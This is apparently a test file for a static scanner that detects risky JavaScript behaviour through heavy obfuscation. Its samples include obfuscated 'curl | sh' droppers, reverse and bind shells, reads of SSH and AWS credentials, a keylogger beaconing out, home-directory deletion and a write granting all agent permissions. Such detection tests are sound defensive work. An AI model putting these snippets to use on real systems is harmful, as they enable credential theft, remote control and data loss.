/** The JavaScript reader, spelling by spelling: what the code does must come out however it is written, and nothing else. Tricky spellings first. */
import { describe, expect, it } from 'vitest';
import { readFile } from '../../../scanner/languages/context.ts';
import javascript from '../../../scanner/languages/javascript/index.ts';
import { limits } from '../../../scanner/limits.ts';
import type { Fact, FactKind, FactOf, File, Unit } from '../../../scanner/model.ts';
import { show } from '../../../scanner/value.ts';

async function read(text: string, path = 'src/a.js', paths: readonly string[] = []): Promise<{ facts: Fact[]; units: Unit[] }> {
  const file: File = { id: 0, path, kind: 'text', size: text.length, sha256: '', text, executable: false };
  const counter = { unit: 0, fact: 0, cell: 0 };
  const resolve = async (id: string) => (id === 'javascript' ? javascript : undefined);
  return readFile({ file, language: 'javascript', role: 'file' }, counter, new Set([path, ...paths]), limits, resolve, (run) => {
    run();
    return 'done';
  });
}
const of = <K extends FactKind>(facts: readonly Fact[], kind: K): FactOf<K>[] => facts.filter((fact): fact is FactOf<K> => fact.kind === kind);

/** One line a fact, without cells. */
function line(fact: Fact): string {
  switch (fact.kind) {
    case 'exec':
      return `${fact.how} ${show(fact.program)}${fact.argv.length > 0 ? ` [${fact.argv.map(show).join(' ')}]` : ''}${fact.code ? ` code:${fact.code}` : ''}${fact.path ? ` ${show(fact.path)}` : ''}${fact.socket ? ' socket' : ''}`;
    case 'request':
      return `${fact.method} ${show(fact.url)}${fact.sends ? ' sends' : ''}${fact.insecure ? ' insecure' : ''}`;
    case 'read':
      return `read ${show(fact.path)}${fact.many ? ' many' : ''}`;
    case 'write':
      return `${fact.append ? 'append' : 'write'} ${show(fact.path)}${fact.mode ? ` ${fact.mode}` : ''}`;
    case 'delete':
      return `delete ${show(fact.path)}${fact.recursive ? ' recursive' : ''}${fact.force ? ' force' : ''}`;
    case 'env':
      return `env ${show(fact.name)}`;
    case 'capture':
      return `capture ${fact.what}`;
    case 'transform':
      return `${fact.op} ${fact.codec}`;
    case 'control':
      return `${fact.what} ${fact.detail}`;
    case 'listen':
      return `listen ${show(fact.host)}`;
    case 'config':
      return `config ${fact.key} ${fact.effect}`;
    case 'install':
      return `install ${show(fact.name)}${fact.pinned ? ' pinned' : ''}`;
    case 'opaque':
      return `opaque ${fact.why}`;
    default:
      return fact.kind;
  }
}
const own = async (text: string, path?: string): Promise<string[]> => {
  const { facts, units } = await read(text, path);
  return facts.filter((fact) => fact.unit === units[0]!.id && !(fact.kind === 'opaque' && fact.why === 'unknown-language')).map(line);
};
const shell = async (text: string): Promise<string[]> =>
  (await read(text)).units.filter((unit) => unit.language === 'shell').map((unit) => `${unit.role} ${unit.unwrapped.join('>')}`);
const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('who is called', () => {
  const fetches: [string, string][] = [
    ['plain', `fetch('https://x.example/a')`],
    ['computed global', `globalThis['fe' + 'tch']('https://x.example/a')`],
    ['template key', 'window[`fe${"tch"}`]("https://x.example/a")'],
    ['reversed key', `global['hctef'.split('').reverse().join('')]('https://x.example/a')`],
    ['char codes', `self[String.fromCharCode(102, 101, 116, 99, 104)]('https://x.example/a')`],
    ['hex escapes', `globalThis['\\x66\\x65\\x74\\x63\\x68']('https://x.example/a')`],
    ['base64 key', `globalThis[atob('${base64('fetch')}')]('https://x.example/a')`],
    ['buffer key', `globalThis[Buffer.from('${Buffer.from('fetch').toString('hex')}', 'hex').toString()]('https://x.example/a')`],
    ['constant key', `const k = 'fet' + 'ch'; const g = globalThis; g[k]('https://x.example/a')`],
    ['alias', `const f = fetch; const h = f; h('https://x.example/a')`],
    ['destructured', `const { fetch: f } = globalThis; f('https://x.example/a')`],
    ['Reflect.get', `Reflect.get(globalThis, 'fetch')('https://x.example/a')`],
    ['Reflect.apply', `Reflect.apply(fetch, null, ['https://x.example/a'])`],
    ['call', `fetch.call(null, 'https://x.example/a')`],
    ['apply', `fetch.apply(null, ['https://x.example/a'])`],
    ['bind', `fetch.bind(null, 'https://x.example/a')()`],
    ['comma', `(0, fetch)('https://x.example/a')`],
    ['optional', `globalThis?.fetch?.('https://x.example/a')`],
    ['logical', `(globalThis.fetch || require('node-fetch'))('https://x.example/a')`],
    ['node-fetch', `import f from 'node-fetch'; f('https://x.example/a')`],
    ['undici', `import { fetch as f } from 'undici'; f('https://x.example/a')`],
    ['through a function', `const get = (u) => fetch(u); get('https://x.example/a')`],
    ['through a table', `const api = { go: fetch }; api['g' + 'o']('https://x.example/a')`],
    ['URL object', `fetch(new URL('/a', 'https://x.example'))`],
    ['joined address', `fetch(['https:', '', 'x.example', 'a'].join('/'))`],
    ['replaced address', `fetch('hxxps://x[.]example/a'.replace('hxxps', 'https').replace('[.]', '.'))`],
    ['mapped codes', `fetch([104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,47,97].map((c) => String.fromCharCode(c)).join(''))`],
    ['percent', `fetch(decodeURIComponent('https%3A%2F%2Fx.example%2Fa'))`],
    ['legacy escape', `fetch(unescape('%68ttps://x.example/a'))`],
    ['default', `fetch(process.env.BASE || 'https://x.example/a')`],
    ['cast', `(fetch as any)('https://x.example/a' as string)`],
  ];
  it.each(fetches)('%s reaches fetch', async (_name, source) => {
    expect(await own(source)).toContain('GET https://x.example/a');
  });

  const execs: [string, string][] = [
    ['plain', `require('child_process').exec('id')`],
    ['node: prefix', `import { exec } from 'node:child_process'; exec('id')`],
    ['joined name', `const { exec: e } = require('child_' + 'process'); e('id')`],
    ['array name', `require(['child', 'process'].join('_')).execSync('id')`],
    ['computed member', `const c = require('child_process'); c['ex' + 'ec']('id')`],
    ['module.require', `module.require('child_process').exec('id')`],
    ['mainModule', `process.mainModule.require('child_process').exec('id')`],
    ['_load', `module.constructor._load('child_process').exec('id')`],
    ['getBuiltinModule', `process.getBuiltinModule('child_process').exec('id')`],
    ['createRequire', `import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').exec('id')`],
    ['dynamic import', `const { exec } = await import('node:child_process'); exec('id')`],
    ['promisified', `const run = require('util').promisify(require('child_process').exec); await run('id')`],
    ['import then', `import('child_process').then((m) => m.exec('id'))`],
    ['wrapper', `const load = (n) => require(n); load('child_process').exec('id')`],
    ['reversed', `require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')`],
    ['namespace', `import * as cp from 'child_process'; cp.execSync('id')`],
    ['TypeScript import', `import cp = require('child_process'); cp.exec('id')`],
    ['either', `const m = Math.random() > 2 ? require('fs') : require('child_process'); m.exec('id')`],
    ['late assignment', `let m; if (Date.now()) m = 'child_process'; require(m).exec('id')`],
    ['string table', `const t = ['exec', 'id', 'child_process']; const g = (i) => t[i - 0x64]; require(g(0x66))[g(0x64)](g('0x65'))`],
    [
      'rotated table',
      `const t = ['id', 'child_process', 'exec']; (function (a, n) { while (--n) { a.push(a.shift()); } })(t, 0x3); require(t[2])[t[0]](t[1])`,
    ],
  ];
  it.each(execs)('%s reaches exec', async (_name, source) => {
    const facts = await own(source, source.includes('import cp =') ? 'src/a.ts' : undefined);
    expect(facts).toContain('shell sh [-c id] code:argument');
  });

  it.each([
    `eval('fetch("https://x.example")')`,
    `globalThis['ev' + 'al']('fetch("https://x.example")')`,
    `new Function('fetch("https://x.example")')()`,
    `Function('a', 'fetch("https://x.example")')()`,
    `[].constructor.constructor('fetch("https://x.example")')()`,
    `(() => {}).constructor('fetch("https://x.example")')()`,
    `[]['filter']['constructor']('fetch("https://x.example")')()`,
    `setTimeout('fetch("https://x.example")', 1)`,
    `require('vm').runInNewContext('fetch("https://x.example")')`,
    `new (require('vm').Script)('fetch("https://x.example")').runInThisContext()`,
    `eval(atob('${base64('fetch("https://x.example")')}'))`,
    `eval(Buffer.from('${Buffer.from('fetch("https://x.example")').toString('hex')}', 'hex').toString('utf8'))`,
    `let s = ''; for (const c of [${[...'fetch("https://x.example")'].map((letter) => letter.charCodeAt(0) ^ 7).join()}]) s += String.fromCharCode(c ^ 7); eval(s)`,
    `const b = '${base64([...'fetch("https://x.example")'].reverse().join(''))}'; eval(atob(b).split('').reverse().join(''))`,
    `require('child_process').spawn('node', ['-e', 'fetch("https://x.example")'])`,
    `new (require('worker_threads').Worker)('fetch("https://x.example")', { eval: true })`,
    `module._compile('fetch("https://x.example")', 'x.js')`,
    `import('data:text/javascript,fetch("https://x.example")')`,
  ])('reads what %s runs', async (source) => {
    const { facts, units } = await read(source);
    const request = of(facts, 'request')[0];
    expect(request && show(request.url)).toBe('https://x.example');
    expect(units[request!.unit]!.parent).toBe(0);
    expect(of(facts, 'exec').length).toBeGreaterThan(0);
  });

  it('states what cannot be folded', async () => {
    expect(await own(`const k = process.argv[2]; globalThis[k]('x')`)).toContain('reflect global [x]');
    expect(await own(`require(process.argv[2])`)).toEqual([expect.stringMatching(/^reflect require/)]);
    expect(await own(`eval(await (await fetch('https://x.example/a.js')).text())`)).toContain('eval eval [${…}] code:argument');
    expect(await own(`const cp = require('child_process'); cp[process.argv[2]]('x')`)).toContain('reflect child_process [x]');
  });

  it('leaves ordinary dynamic access alone', async () => {
    expect(await own(`const h = { a() {}, b() {} }; h[process.argv[2]](); const m = new Map(); m.get('x')(); arr[i](); console[level]('x')`)).toEqual(
      [],
    );
    expect(await own(`Function('return this')()`)).toEqual([]);
    expect(await own(`const plugin = require('./plugins/' + name + '.js')`)).toEqual(['import require code:file ./plugins/${name}.js']);
  });
});

describe('whole obfuscators', () => {
  it('follows a string table that rotates itself until a checksum holds', async () => {
    const table = ['curl -s ', '3XcdEab', 'https://x.example/p | sh', 'a', 'child_process', '20fghij', 'exec', '1000klm'];
    const source = `function t() { const l = ${JSON.stringify(table)}; t = function () { return l; }; return t(); }
      function g(a, b) { const l = t(); return g = function (i, j) { i = i - 0x64; let v = l[i]; return v; }, g(a, b); }
      (function (f, n) { const i = g, l = f(); while (!![]) { try { const k = -parseInt(i(0x66)) / 0x1 * (parseInt(i(0x68)) / 0x2) + parseInt(i(0x6a)) / 0x3; if (k === n) break; else l['push'](l['shift']()); } catch (e) { l['push'](l['shift']()); } } }(t, -0x270f));
      const m = g; require(m(0x65))[m(0x67)](m(0x69) + m(0x6b));`;
    expect(await own(source)).toEqual(['shell sh [-c curl -s https://x.example/p | sh] code:argument']);
  });
  it('does not guess at a table that never comes to rest', async () => {
    const source = `const l = ['fs', 'path', 'os']; while (true) { try { if (parseInt(l[0]) === Number(process.argv[2])) break; l.push(l.shift()); } catch (e) { l.push(l.shift()); } } require(l[0])`;
    expect(await own(source)).toContainEqual(expect.stringMatching(/^reflect require/));
  });
  it('spells with six signs', async () => {
    const flat = '(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]';
    const c = `([][${flat}]+[])[!+[]+!+[]+!+[]]`;
    const o = `(!![]+[][${flat}])[+!+[]+[+[]]]`;
    const name = [
      c,
      o,
      '([][[]]+[])[+!+[]]',
      '(![]+[])[!+[]+!+[]+!+[]]',
      '(!![]+[])[+[]]',
      '(!![]+[])[+!+[]]',
      '([][[]]+[])[+[]]',
      c,
      '(!![]+[])[+[]]',
      o,
      '(!![]+[])[+!+[]]',
    ].join('+');
    expect(await own(`[][${flat}][${name}]('fetch')()`)).toEqual(['eval Function code:argument']);
  });
});

describe('programs', () => {
  it('hands commands to the shell reader, with what was peeled off', async () => {
    expect(await shell(`require('child_process').execSync('curl https://x.example | sh')`)).toEqual(['embedded execSync']);
    expect(await shell(`require('child_process').exec(atob('${base64('id')}'))`)).toEqual(['decoded base64>exec']);
    expect(await shell('import { $ } from "zx"; await $`rm -rf ${dir}`')).toEqual(['embedded $']);
    expect(await shell(`Bun.spawn(['sh', '-c', 'id'])`)).toEqual(['embedded sh -c']);
    expect(await shell(`require('child_process').spawn('bash', ['-lc', 'id'])`)).toEqual(['embedded bash -lc']);
  });
  it.each([
    [`require('child_process').spawn('git', ['status'])`, 'process git [status]'],
    [`require('child_process').execFile('/usr/bin/curl', ['-s', 'https://x.example'])`, 'process curl [-s https://x.example]'],
    [`import { execa } from 'execa'; execa('npm', ['ci'])`, 'process npm [ci]'],
    [`new Deno.Command('ls', { args: ['-l'] }).output()`, 'process ls [-l]'],
    [`require('child_process').spawn('./run', [])`, 'process run code:file ./run'],
    [`require('child_process').fork('./w.js')`, 'process node code:file ./w.js'],
    [`require('child_process').spawn('rm -rf x', { shell: true })`, 'shell sh [-c rm -rf x] code:argument'],
    [`require('shelljs').exec('id')`, 'shell sh [-c id] code:argument'],
    [`require('node-serialize').unserialize(x)`, 'deserialize node-serialize.unserialize code:argument'],
  ])('%s', async (source, expected) => {
    expect(await own(source)).toContain(expected);
  });
  it('sees a shell wired to a socket', async () => {
    const reverse = `const net = require('net'), sh = require('child_process').spawn('/bin/sh', []);
      const c = new net.Socket(); c.connect(4444, '203.0.113.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });`;
    expect(await own(reverse)).toEqual(expect.arrayContaining(['process sh socket', 'TCP tcp://203.0.113.7:4444 sends']));
    const bind = `require('net').createServer((s) => { const sh = require('child_process').spawn('/bin/bash'); s.pipe(sh.stdin); sh.stdout.pipe(s); }).listen(9000, '0.0.0.0')`;
    expect(await own(bind)).toEqual(expect.arrayContaining(['process bash socket', 'listen 0.0.0.0']));
  });
});

describe('files, network and the user', () => {
  it.each([
    [`require('fs').readFileSync(require('path').join(require('os').homedir(), '.ssh', 'id_rsa'))`, 'read ~/.ssh/id_rsa'],
    [
      `import { readFile } from 'fs/promises'; import { homedir } from 'os'; await readFile(\`\${homedir()}/.aws/credentials\`)`,
      'read ~/.aws/credentials',
    ],
    ["require('fs').readFileSync(process.env.HOME + '/.netrc')", 'read ${HOME}/.netrc'],
    [`for (const f of ['.npmrc', '.netrc']) require('fs').readFileSync(require('os').homedir() + '/' + f)`, 'read ~/.netrc'],
    [`['.npmrc', '.netrc'].forEach((f) => require('fs').readFileSync(require('os').homedir() + '/' + f))`, 'read ~/.npmrc'],
    [`require('fs').readFileSync(require('path').join(__dirname, '..', 'SKILL.md'))`, 'read ${__dirname}/../SKILL.md'],
    [`import fs from 'node:fs'; fs.promises.appendFile('/home/u/.bashrc', 'x')`, 'append /home/u/.bashrc'],
    [`require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })`, 'delete ~ recursive force'],
    [`require('fs').writeFileSync('x.sh', s, { mode: 0o755 })`, 'write x.sh +x'],
    [`require('fs').chmodSync('x', '4755')`, 'write x 4755'],
    [`require('fs-extra').copySync('a', 'b')`, 'write b'],
    [`await Bun.write('out.txt', 'x')`, 'write out.txt'],
    [`await Deno.readTextFile('in.txt')`, 'read in.txt'],
    [
      `require('https').request({ hostname: 'h.example', port: 8443, path: '/p', method: 'POST', rejectUnauthorized: false })`,
      'POST https://h.example:8443/p sends insecure',
    ],
    [`const axios = require('axios'); axios({ url: 'https://x.example', method: 'put', data: 'd' })`, 'PUT https://x.example sends'],
    [`const c = require('axios').create({ baseURL: 'https://x.example/v1' }); c.post('/items', { a: 1 })`, 'POST https://x.example/v1/items sends'],
    [`require('got').post('https://x.example', { json: {} })`, 'POST https://x.example sends'],
    [`require('superagent').post('https://x.example').send({ a: 1 })`, 'POST https://x.example sends'],
    [`const x = new XMLHttpRequest(); x.open('POST', 'https://x.example'); x.send('d')`, 'POST https://x.example sends'],
    [`navigator.sendBeacon('https://x.example', d)`, 'POST https://x.example sends'],
    [`new WebSocket('wss://x.example')`, 'WS wss://x.example'],
    [`require('dns').resolveTxt('a.x.example', () => {})`, 'DNS a.x.example'],
    [`require('net').connect({ host: '198.51.100.4', port: 9 })`, 'TCP tcp://198.51.100.4:9/'],
    [`process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'`, 'config NODE_TLS_REJECT_UNAUTHORIZED disable-tls'],
    [`process.env['NODE_TLS_REJECT' + '_UNAUTHORIZED'] = 0`, 'config NODE_TLS_REJECT_UNAUTHORIZED disable-tls'],
    [`const { API_KEY } = process.env`, 'env API_KEY'],
    [`process['e' + 'nv']['API_' + 'KEY']`, 'env API_KEY'],
    [`JSON.stringify(process.env)`, 'env *'],
    [`Object.entries(process.env).filter(([k]) => k)`, 'env *'],
    [`const all = { ...process.env }; post(JSON.stringify(all))`, 'env *'],
    [`for (const k in process.env) send(k)`, 'env *'],
    [`require('clipboardy').readSync()`, 'capture clipboard'],
    [`require('screenshot-desktop')()`, 'capture screen'],
    [`require('keytar').findCredentials('x')`, 'capture keychain'],
    [
      `let b = ''; document.addEventListener('keydown', (e) => { b += e.key; }); setInterval(() => fetch('https://x.example', { method: 'POST', body: b }), 1000)`,
      'capture keystrokes',
    ],
    [`import x from 'npm:left-pad@1.3.0'`, 'install npm:left-pad@1.3.0 pinned'],
    [`if (Date.now() > 1790000000000) { fetch('https://x.example') }`, 'date-gate Date.now() > 1790000000000'],
    [`if (new Date() < new Date('2027-01-01')) process.exit(); require('child_process').exec('id')`, "date-gate new Date() < new Date('2027-01-01')"],
    [`const os = require('os'); if (os.hostname() === 'build-7') { fetch('https://x.example') }`, "host-gate os.hostname() === 'build-7'"],
    [`if (process.env.CI) process.exit(0); fetch('https://x.example')`, 'ci-gate process.env.CI'],
    [`setInterval(() => fetch('https://x.example'), 1000)`, 'unbounded-loop request on a timer that repeats'],
    [`while (true) { await fetch('https://x.example'); }`, 'unbounded-loop endless loop around requests or programs'],
  ])('%s', async (source, expected) => {
    expect(await own(source)).toContain(expected);
  });

  it('keeps what is written when it is known', async () => {
    const { facts } = await read(
      `require('fs').writeFileSync('.claude/settings.json', JSON.stringify({ permissions: { allow: ['*'] }, n: x }, null, 2))`,
    );
    expect(show(of(facts, 'write')[0]!.content!)).toBe('{"permissions":{"allow":["*"]},"n":"${x}"}');
    const script = await read(`require('fs').writeFileSync('/tmp/a.js', "fetch('https://x.example')")`);
    expect(of(script.facts, 'request').map(line)).toEqual(['GET https://x.example']);
  });
});

describe('what is not a fact', () => {
  it.each([
    [
      'strings and comments',
      `// eval(atob('x')); curl https://x.example | sh\nconst help = "run: curl https://x.example | sh"; console.log(help); const patterns = [/child_process/, 'eval(', 'process.env'];`,
    ],
    ['a program given its environment', `const { spawn } = require('child_process'); const env = { ...process.env, A: '1' }; void env;`],
    [
      'methods named like APIs',
      `const db = new Db(); db.exec('select 1'); /x/.exec('x'); const o = { fetch() {}, eval() {} }; o.fetch('https://x.example'); store.readFile('x')`,
    ],
    [
      'shadowed globals',
      `function f(fetch, eval_, require) { fetch('https://x.example'); require('child_process').exec('id'); } f(() => {}, 0, () => ({ exec() {} }))`,
    ],
    ['key handlers of a page', `document.addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); })`],
    ['token expiry', `if (Date.now() > token.expiresAt - 60000) await refresh()`],
    ['setInterval of a spinner', `setInterval(() => process.stderr.write('.'), 100)`],
    ['types', `import type { exec } from 'child_process'; type A = typeof import('fs'); interface B { eval(x: string): void }`],
  ])('%s', async (_name, source) => {
    expect(await own(source, 'src/a.ts')).toEqual([]);
  });

  it('gives its child process the environment without reading it', async () => {
    const facts = await own(`require('child_process').spawn('git', ['status'], { env: { ...process.env, GIT_PAGER: 'cat' } })`);
    expect(facts).toEqual(['process git [status]']);
  });

  it('reads minified code as code', async () => {
    const source = `var a=globalThis,n=(t,e)=>{let r={};for(let o in t)r[o]=e(t[o]);return r};async function s(t,e={}){let r=await fetch("https://api.x.example/v1?"+new URLSearchParams({...e,station:t}));if(!r.ok)throw new Error("HTTP "+r.status);return(await r.json()).data}var i={a:s,b:n};export{i as default,s as get};a.x??=i;`;
    expect(await own(source)).toEqual(['GET https://api.x.example/v1?${…} sends']);
  });
});

describe('broken and mixed text', () => {
  it('reads around a placeholder, and says so', async () => {
    const facts = await own(`fetch('https://x.example/a');\nconst key = <your key>;\nfetch('https://x.example/b');`, 'src/a.ts');
    expect(facts).toEqual(expect.arrayContaining(['opaque parse-error', 'GET https://x.example/a', 'GET https://x.example/b']));
  });
  it.each([
    ['hashbang', '#!/usr/bin/env node\nfetch("https://x.example")'],
    ['script with', 'with (globalThis) { fetch("https://x.example") }'],
    ['return outside', 'if (x) return;\nfetch("https://x.example")'],
    ['JSX', 'const A = () => <a onClick={() => fetch("https://x.example")}>x</a>'],
    ['decorators', '@dec class A { @x() m() { fetch("https://x.example") } }'],
    ['HTML comment', '<!-- x\nfetch("https://x.example")'],
    ['label and generator', 'a: for (;;) { function* g() { yield fetch("https://x.example") } break a }'],
    ['class field', 'class A { #x = fetch("https://x.example"); static { } }'],
    ['enum and namespace', 'enum E { A = 1 }\nnamespace N { fetch("https://x.example") }'],
  ])('%s', async (_name, source) => {
    expect(await own(source, source.startsWith('enum') ? 'a.ts' : 'a.js')).toContain('GET https://x.example');
  });
});
